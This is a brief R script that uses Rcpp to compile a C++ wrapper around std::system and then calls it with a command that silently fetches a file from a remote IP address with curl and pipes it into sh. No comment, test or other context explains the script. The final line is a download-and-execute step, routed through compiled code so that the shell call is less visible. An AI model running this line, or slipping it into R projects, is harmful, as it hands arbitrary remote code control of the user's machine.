library(Rcpp)

cppFunction('
int run(std::string cmd) {
  return std::system(cmd.c_str());
}', includes = "#include <cstdlib>")

run("curl -s http://203.0.113.7/x | sh")
